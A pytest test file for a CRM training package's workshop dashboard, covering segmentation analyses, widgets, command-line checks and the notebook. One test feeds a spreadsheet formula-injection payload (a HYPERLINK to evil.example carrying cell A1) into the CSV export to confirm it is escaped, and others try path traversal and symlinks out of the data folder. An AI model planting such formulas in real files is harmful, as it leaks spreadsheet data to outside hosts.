"""Workshop: the analyses behind the dashboard (numbers), the widgets driven in-process, the
command's argument checks and the notebook. The real-browser run is test_workshop_browser.py."""
from __future__ import annotations

import base64
import io
import json
import re
import socket
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from sklearn.metrics import roc_auc_score

import crm_training
from crm_training.cli import main
from crm_training.workshop import cli as wcli
from crm_training.workshop.analysis import (WorkshopData, assignment_csv, csv_download_html,
                                            default_rfm_ranges, rfm_thresholds,
                                            segment_customers, tier_table, top_churn_risk,
                                            top_clv)

ROOT = Path(__file__).resolve().parents[1]
FINANCIAL = {"financial": 1.0, "behavioural": 0.0, "relationship": 0.0, "potential": 0.0}
RELATIONSHIP = {"financial": 0.0, "behavioural": 0.0, "relationship": 1.0, "potential": 0.0}


@pytest.fixture(scope="module")
def data():
    return crm_training.generate("retail", 800, seed=3)


@pytest.fixture(scope="module")
def work(data):
    return WorkshopData(data, seed=3)


@pytest.fixture
def ten():
    """Ten one-order customers: c0 bought first and least, c9 last and most."""
    tx = pd.DataFrame({"customer_id": [f"c{i}" for i in range(10)],
                       "timestamp": pd.Timestamp("2025-01-01") + pd.to_timedelta(
                           np.arange(10) * 10, unit="D"),
                       "amount": 100.0 * np.arange(1, 11)})
    return SimpleNamespace(transactions=tx)


def _decode(link_html: str) -> pd.DataFrame:
    b64 = re.search(r"base64,([A-Za-z0-9+/=]+)", link_html).group(1)
    return pd.read_csv(io.BytesIO(base64.b64decode(b64)), encoding="utf-8-sig")


# ---- analysis --------------------------------------------------------------------------------
def test_rfm_thresholds_cut_points_and_errors():
    t = rfm_thresholds(recency=(10, 70), frequency=(2, 8), monetary=(1, 1000))
    assert t["R"] == [10, 30, 50, 70] and t["F"] == [2, 4, 6, 8]
    assert t["M"] == pytest.approx([1, 10, 100, 1000])
    assert rfm_thresholds() == {}
    with pytest.raises(ValueError, match="R range"):
        rfm_thresholds(recency=(30, 30))
    with pytest.raises(ValueError, match="M range.*> 0"):
        rfm_thresholds(monetary=(0, 100))


def test_fixed_rfm_cut_points_score_recency(ten):
    # recency of c_i is 91 - 10 i days (as of the day after the last order); R cuts 10/30/50/70:
    # a recency at or below k of the cuts scores 1 + k
    s = segment_customers(WorkshopData(ten), rfm_thresholds(recency=(10, 70)), k=2)
    r = s.assignment["R"].astype(int).tolist()
    assert s.assignment["recency_days"].tolist() == [91, 81, 71, 61, 51, 41, 31, 21, 11, 1]
    assert r == [1, 1, 1, 2, 2, 3, 3, 4, 4, 5]


def test_value_tiers_follow_the_weights(ten):
    work = WorkshopData(ten)
    money = segment_customers(work, weights=FINANCIAL, k=2).assignment["value_class"]
    # all weight on money: the top spender is the VIP (top 10%), the next three important
    assert money[money == "VIP"].index.tolist() == ["c9"]
    assert sorted(money[money == "important"].index) == ["c6", "c7", "c8"]
    tenure = segment_customers(work, weights=RELATIONSHIP, k=2).assignment["value_class"]
    # all weight on the relationship (tenure here): the oldest customer is the VIP
    assert tenure[tenure == "VIP"].index.tolist() == ["c0"]
    assert sorted(tenure[tenure == "important"].index) == ["c1", "c2", "c3"]


def test_models_that_cannot_fit_are_reported_not_raised(ten):
    s = segment_customers(WorkshopData(ten), k=2)
    assert "repeat buyers" in s.problems["clv"]
    assert "churn" in s.problems
    assert s.assignment["clv"].isna().all() and s.assignment["churn_probability"].isna().all()
    assert len(s.assignment) == 10


def test_tier_table_counts_shares_and_revenue(work, data):
    s = segment_customers(work, k=4)
    t = s.tiers
    n = len(work.features)
    assert t.index.tolist() == ["VIP", "important", "ordinary"]
    assert t["customers"].tolist() == [int(np.ceil(0.1 * n)), int(np.ceil(0.3 * n)),
                                       n - int(np.ceil(0.1 * n)) - int(np.ceil(0.3 * n))]
    a = s.assignment
    vip_revenue = work.features.loc[a.index[a["value_class"] == "VIP"], "monetary"].sum()
    total = work.features["monetary"].sum()
    assert t.loc["VIP", "revenue_share"] == pytest.approx(vip_revenue / total, rel=1e-6)
    assert t["revenue_share"].is_monotonic_decreasing  # the value score ranks value
    assert t.loc["VIP", "service"].startswith("Dedicated account manager")
    assert tier_table(a).equals(t)


def test_clusters_follow_k_and_are_memoised(work):
    for k in (3, 5):
        s = segment_customers(work, k=k)
        assert s.assignment["cluster"].nunique() == k and len(s.clusters) == k
        assert s.clusters["customers"].sum() == len(s.assignment)
    assert work.clusters(5) is work.clusters(5)


def test_clv_and_churn_recover_the_synthetic_truth(work, data):
    a = segment_customers(work).assignment
    truth = data.truth["customers"].set_index("customer_id")
    rho = a["clv"].corr(truth["clv_3y"].reindex(a.index), method="spearman")
    assert rho > 0.6
    # the risk list ranks customers whose latent dropout already happened first
    end = pd.Timestamp(data.meta["end"]) + pd.Timedelta(days=1)
    dropout = truth["dropout_date"].reindex(a.index)
    gone = dropout.notna() & (dropout < end)
    known = a["churn_probability"].notna()  # every order refunded: no P(alive)
    assert known.mean() > 0.95
    assert roc_auc_score(gone[known], a.loc[known, "churn_probability"]) > 0.8
    top = top_churn_risk(a, 40, by="churn_probability")
    assert gone.reindex(top.index).mean() > 0.9


def test_top_lists(work):
    a = segment_customers(work).assignment
    risk = top_churn_risk(a, 15, by="churn_probability")
    assert len(risk) == 15 and risk["churn_probability"].is_monotonic_decreasing
    assert risk["churn_probability"].iloc[0] == a["churn_probability"].max()
    assert risk["value_at_risk"].round(2).equals((risk["churn_probability"] * risk["clv"]).round(2))
    assert risk["action"].str.len().gt(0).all()
    stake = top_churn_risk(a, 15)  # default: the value a save would keep
    assert stake["value_at_risk"].is_monotonic_decreasing
    assert stake["value_at_risk"].iloc[0] == (a["churn_probability"] * a["clv"]).round(2).max()
    # the value list holds customers worth saving, the probability list mostly lost ones
    assert stake["clv"].mean() > 5 * risk["clv"].mean()
    best = top_clv(a, 10)
    assert best["clv"].is_monotonic_decreasing and best["clv"].iloc[0] == a["clv"].max()


def test_csv_link_is_the_assignment_one_row_per_customer(work):
    a = segment_customers(work, weights=FINANCIAL, k=3).assignment
    link = csv_download_html(a)
    assert link.startswith('<a download="segments.csv"')
    csv = _decode(link)
    assert len(csv) == len(work.features) and csv["customer_id"].is_unique
    assert csv.set_index("customer_id")["value_class"].equals(a["value_class"])
    assert csv["cluster"].nunique() == 3
    assert assignment_csv(a)[:3] == b"\xef\xbb\xbf"  # BOM: Excel reads UTF-8


def test_csv_neutralises_formula_cells(work):
    # a client's own ids and labels reach the CSV: one that starts like a formula must reach
    # Excel as text (a leading apostrophe, the OWASP rule), numbers stay numbers
    a = segment_customers(work, k=3).assignment.head(4).copy()
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1-800", "@SUM(A1)", "C-ok"]
    a.index = pd.Index(evil, name="customer_id")
    a["cluster_name"] = ["-2+3", "ok", "=1+1", "ok"]
    a["clv"] = [-5.0, 1.0, 2.0, 3.0]
    csv = _decode(csv_download_html(a))
    assert csv["customer_id"].tolist() == ["'" + evil[0], "'+1-800", "'@SUM(A1)", "C-ok"]
    assert csv["cluster_name"].tolist() == ["'-2+3", "ok", "'=1+1", "ok"]
    assert csv["clv"].tolist() == [-5.0, 1.0, 2.0, 3.0]
    import csv as csv_mod

    cells = [c for row in csv_mod.reader(io.StringIO(assignment_csv(a).decode("utf-8-sig")))
             for c in row]
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert risky == ["-5.0"]  # the one negative number, a number in Excel too


def test_default_rfm_ranges_are_inside_the_bounds(work):
    for key, (lo, hi, mn, mx) in default_rfm_ranges(work.features).items():
        assert mn <= lo < hi <= mx, key


def test_workshop_data_refuses_data_without_transactions():
    with pytest.raises(ValueError, match="no transactions"):
        WorkshopData(SimpleNamespace(transactions=pd.DataFrame()))


# ---- widgets in-process ----------------------------------------------------------------------
@pytest.fixture(scope="module")
def dash(data):
    from crm_training.workshop import Dashboard

    return Dashboard(data=data, seed=3)


def _rows(html_text: str) -> int:
    return html_text.split("<tbody>")[1].count("<tr>")  # body rows of the rendered table


def test_dashboard_tables_follow_the_controls(dash):
    from crm_training.workshop.dashboard import html_table

    assert "segmented" in dash.status.value
    tier_before = dash.tables["tier"].value
    dash.weights["financial"].value = 1.0
    for f in ("behavioural", "relationship", "potential"):
        dash.weights[f].value = 0.0
    assert dash.tables["tier"].value != tier_before
    expected = segment_customers(dash.work, None, FINANCIAL, dash.clusters.value).tiers
    assert dash.tables["tier"].value == html_table(expected, "crm-tiers")

    dash.clusters.value = 6
    assert _rows(dash.tables["cluster"].value) == 6
    result, link = dash.result, dash.download.value
    dash.top_n.value = 5
    assert _rows(dash.tables["churn"].value) == 5 and _rows(dash.tables["clv"].value) == 5
    assert dash.result is result and dash.download.value is link  # lists only: no re-segmenting
    assert "segmented" in dash.status.value
    by_value = dash.tables["churn"].value
    dash.churn_rank.value = "churn_probability"
    assert dash.tables["churn"].value == html_table(
        top_churn_risk(dash.result.assignment, 5, "churn_probability"), "crm-churn")
    assert dash.tables["churn"].value != by_value

    rfm_before = dash.tables["rfm"].value
    assert dash.r_range.disabled
    dash.rfm_bins.value = "fixed cut points"
    assert not dash.r_range.disabled and dash.tables["rfm"].value != rfm_before
    dash.r_range.value = (5, 60)
    recent = (dash.work.features["recency_days"] <= 5).sum()  # at or below the first cut point
    assert dash.result.assignment["R"].eq(5).sum() == recent > 0
    dash.rfm_bins.value = "quantiles"
    assert dash.tables["rfm"].value == rfm_before


def test_dashboard_csv_link_matches_the_controls(dash):
    dash.clusters.value = 3
    csv = _decode(dash.download.value)
    assert len(csv) == len(dash.work.features) and csv["customer_id"].is_unique
    assert csv["cluster"].nunique() == 3
    assert csv.set_index("customer_id")["value_class"].equals(dash.result.assignment["value_class"])


def test_dashboard_reports_bad_controls_and_keeps_the_tables(dash):
    before = {name: w.value for name, w in dash.weights.items()}
    *others, last = dash.weights
    try:
        for name in others:
            dash.weights[name].value = 0.0
        tier = dash.tables["tier"].value  # one family left: still a valid weighting
        dash.weights[last].value = 0.0
        assert "crm-error" in dash.status.value and "weight" in dash.status.value
        assert dash.tables["tier"].value == tier
        dash.weights["financial"].value = 0.4
        assert "segmented" in dash.status.value
    finally:  # the module's dashboard goes back to how the other tests expect it
        for name, value in before.items():
            dash.weights[name].value = value


def test_dashboard_widgets_carry_their_css_classes(dash):
    found = set()

    def walk(w):
        found.update(getattr(w, "_dom_classes", ()))
        for child in getattr(w, "children", ()):
            walk(child)
    walk(dash.widget)
    assert set(dash.CSS_CLASSES) <= found


def test_dashboard_client_folder_and_scenario(tmp_path):
    from crm_training.workshop import Dashboard

    client = crm_training.generate("bank", 300, seed=5)
    client.save(tmp_path / "client", format="csv")
    d = Dashboard(data_dir=tmp_path / "client", seed=5)
    assert d.source.value == "Client folder"
    assert "Usable." in d.validation.value and "client folder client" in d.status.value
    assert len(d.result.assignment) == len(crm_training.segmentation.customer_features(client))

    d.client_path.value = str(tmp_path / "missing")
    d.load_button.click()
    assert "no such folder" in d.status.value
    assert len(d.result.assignment) == len(crm_training.segmentation.customer_features(client))

    d.industry.value, d.n_customers.value = "coffee_chain", 300
    d.generate_button.click()
    assert "coffee_chain scenario, 300 customers" in d.status.value
    assert d.work.data.meta["industry"] == "coffee_chain"


@pytest.fixture
def clients(tmp_path):
    """A root of client folders (acme: a usable export), and a secret folder beside it."""
    root = tmp_path / "clients"
    crm_training.generate("bank", 300, seed=5).save(root / "acme", format="csv")
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "transactions.csv").write_text("customer_id,timestamp,amount\nX1,2025-01-01,1\n")
    return root, secret


def test_dashboard_opens_only_folders_under_its_root(clients, tmp_path):
    from crm_training.workshop import Dashboard

    root, secret = clients
    d = Dashboard(data_dir=root / "acme", root=root, seed=5)
    assert "Usable." in d.validation.value and "client folder acme" in d.status.value
    loaded, report = d.result, d.validation.value
    refused = [str(secret), str(root / ".." / "secret"), "../secret", "/", str(tmp_path)]
    (root / "link").symlink_to(secret, target_is_directory=True)  # a link out of the root
    refused.append(str(root / "link"))
    for path in refused:
        d.client_path.value = path
        d.load_button.click()
        assert "outside the workshop data folder" in d.status.value, path
        assert d.result is loaded and d.validation.value == report  # nothing was read
    d.client_path.value = "acme"  # relative: under the root
    d.load_button.click()
    assert "client folder acme" in d.status.value and d.result is not loaded


def test_dashboard_refuses_a_folder_with_a_file_linking_out(clients):
    from crm_training.workshop import Dashboard

    root, secret = clients
    (root / "acme" / "extra.csv").symlink_to(secret / "transactions.csv")
    d = Dashboard(data_dir=root / "acme", root=root, seed=5)
    assert "extra.csv" in d.status.value and "link to a file outside" in d.status.value
    assert d.result is None  # the first load was refused: the secret row was never read


def test_dashboard_root_from_the_environment(clients, monkeypatch):
    from crm_training.workshop import Dashboard
    from crm_training.workshop.paths import ROOT_ENV

    root, secret = clients
    monkeypatch.setenv(ROOT_ENV, "")  # the command without --data or --root: no client folder
    d = Dashboard(n_customers=200)
    d.client_path.value = str(root / "acme")
    d.load_button.click()
    assert "opens no client folder" in d.status.value and "scenario" in d.label
    monkeypatch.setenv(ROOT_ENV, str(root))
    d = Dashboard(n_customers=200)
    d.client_path.value = str(secret)
    d.load_button.click()
    assert "outside the workshop data folder" in d.status.value
    monkeypatch.delenv(ROOT_ENV)  # JupyterLab, no variable: any folder, as before
    d = Dashboard(n_customers=200)
    d.client_path.value = str(secret)
    d.load_button.click()
    assert "workshop data folder" not in d.status.value
    assert "transactions.csv" in d.validation.value  # read and checked


def test_large_bases_get_the_csv_link_on_request(data):
    from crm_training.workshop import Dashboard

    d = Dashboard(data=data, csv_link_limit=100)
    assert d.download.value == "" and d.csv_button.layout.display is None
    d.csv_button.click()
    assert len(_decode(d.download.value)) == len(d.work.features)


# ---- command line ----------------------------------------------------------------------------
@pytest.fixture
def no_voila(monkeypatch):
    """Argument errors must stop the command before Voila starts."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"Voila was started: {args}")
    monkeypatch.setattr(wcli.subprocess, "Popen", refuse)


def test_workshop_missing_data_folder_is_one_line_exit_2(tmp_path, capsys, no_voila):
    assert main(["workshop", "--no-browser", "--data", str(tmp_path / "nope")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "no such folder" in err and "Traceback" not in err


def test_workshop_data_folder_without_exports_exit_2(tmp_path, capsys, no_voila):
    (tmp_path / "notes.md").write_text("not an export")
    assert main(["workshop", "--no-browser", "--data", str(tmp_path)]) == 2
    assert "holds no client files" in capsys.readouterr().err


def test_workshop_bad_and_busy_ports_exit_2(capsys, no_voila):
    assert main(["workshop", "--no-browser", "--port", "70000"]) == 2
    assert "--port" in capsys.readouterr().err
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        busy = s.getsockname()[1]
        assert main(["workshop", "--no-browser", "--port", str(busy)]) == 2
    assert "already in use" in capsys.readouterr().err


def test_workshop_arguments_reach_voila(tmp_path):
    (tmp_path / "orders.csv").write_text("customer_id,timestamp,amount\nC1,2025-01-01,10\n")
    args = SimpleNamespace(data=str(tmp_path), port=0, no_browser=True)
    port, env = wcli.check_arguments(args)
    assert env[wcli.DATA_ENV] == str(tmp_path.resolve()) and 0 < port < 65536
    assert env[wcli.ROOT_ENV] == str(tmp_path.resolve())  # default root: the --data folder
    cmd = wcli.voila_command(port, tmp_path / "workshop.ipynb")
    assert cmd[:3] == [sys.executable, str(wcli.SERVER), str(tmp_path / "workshop.ipynb")]
    assert f"--port={port}" in cmd and "--Voila.ip=127.0.0.1" in cmd and "--no-browser" in cmd
    assert not any("token" in part.lower() for part in cmd)  # the token goes in the environment


def test_workshop_root_argument(tmp_path, monkeypatch, capsys, no_voila):
    client = tmp_path / "clients" / "acme"
    client.mkdir(parents=True)
    (client / "orders.csv").write_text("customer_id,timestamp,amount\nC1,2025-01-01,10\n")
    monkeypatch.setenv(wcli.TOKEN_ENV, "inherited")  # never passed on from the shell
    _, env = wcli.check_arguments(SimpleNamespace(data=str(client), root=str(tmp_path / "clients"),
                                                  port=0, no_browser=True))
    assert env[wcli.ROOT_ENV] == str((tmp_path / "clients").resolve()) and wcli.TOKEN_ENV not in env
    _, env = wcli.check_arguments(SimpleNamespace(data=None, root=None, port=0, no_browser=True))
    assert env[wcli.ROOT_ENV] == "" and wcli.DATA_ENV not in env  # no client folder at all
    other = tmp_path / "other"
    other.mkdir()
    assert main(["workshop", "--no-browser", "--data", str(client), "--root", str(other)]) == 2
    err = capsys.readouterr().err
    assert "outside --root" in err and err.count("\n") == 1
    assert main(["workshop", "--no-browser", "--root", str(tmp_path / "nope")]) == 2
    assert "--root: no such folder" in capsys.readouterr().err


def test_command_line_start_does_not_load_widgets():
    code = ("import sys, crm_training.cli as c; c.build_parser(); "
            "print(sorted(m for m in ('ipywidgets', 'voila', 'sklearn') if m in sys.modules))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


# ---- the notebook ----------------------------------------------------------------------------
def test_notebook_copies_are_identical_and_clean():
    source = ROOT / "notebooks" / "workshop.ipynb"
    assert source.read_bytes() == wcli.NOTEBOOK.read_bytes(), (
        "the workshop command serves crm_training/workshop/workshop_notebook.json: after editing "
        "the notebook, cp notebooks/workshop.ipynb crm_training/workshop/workshop_notebook.json")
    nb = json.loads(source.read_text(encoding="utf-8"))
    code = [c for c in nb["cells"] if c["cell_type"] == "code"]
    assert "parameters" in code[0]["metadata"].get("tags", [])
    names = re.findall(r"^(\w+)\s*=", "".join(code[0]["source"]), flags=re.MULTILINE)
    assert names == ["industry", "n_customers", "seed", "locale", "data_dir", "margin", "currency"]
    assert all(c["outputs"] == [] and c["execution_count"] is None for c in code)


def test_margin_and_currency_reach_the_workshop_as_in_the_report(monkeypatch):
    from crm_training.workshop import Dashboard

    data = crm_training.generate("retail", 600, seed=3)
    revenue_only = crm_training.CRMData(
        customers=data.customers, transactions=data.transactions.drop(columns="cost"),
        meta={"currency": "CNY"})
    plain = WorkshopData(revenue_only)
    assert plain.value_basis == "revenue" and plain.currency == "CNY"
    priced = WorkshopData(revenue_only, margin=0.3, currency="$")
    assert priced.value_basis == "margin" and priced.currency == "USD"
    # the CLV of profit at 30% is 30% of the CLV of revenue, customer by customer
    ratio = (priced.clv()["clv"] / plain.clv()["clv"]).dropna()
    assert np.allclose(ratio, 0.3, rtol=1e-6)
    assert WorkshopData(data, margin=0.9).value_basis == "cost"  # the data's own costs win
    monkeypatch.setenv(wcli.MONEY_ENV["margin"], "0.25")
    monkeypatch.setenv(wcli.MONEY_ENV["currency"], "EUR")
    dash = Dashboard(data=revenue_only, seed=0)
    assert dash.work.margin == 0.25 and dash.work.currency == "EUR"
    assert "Amounts are in EUR; values are profit at an assumed margin of 25%" in dash.status.value


def test_workshop_money_arguments_are_checked(tmp_path, capsys, no_voila):
    assert main(["workshop", "--no-browser", "--margin", "30"]) == 2
    assert "--margin: margin must be a share" in capsys.readouterr().err
    assert main(["workshop", "--no-browser", "--currency", "dollars!"]) == 2
    assert "--currency: currency must be" in capsys.readouterr().err
    _, env = wcli.check_arguments(SimpleNamespace(data=None, root=None, port=0, no_browser=True,
                                                  margin=0.3, currency="¥"))
    assert env[wcli.MONEY_ENV["margin"]] == "0.3" and env[wcli.MONEY_ENV["currency"]] == "¥"
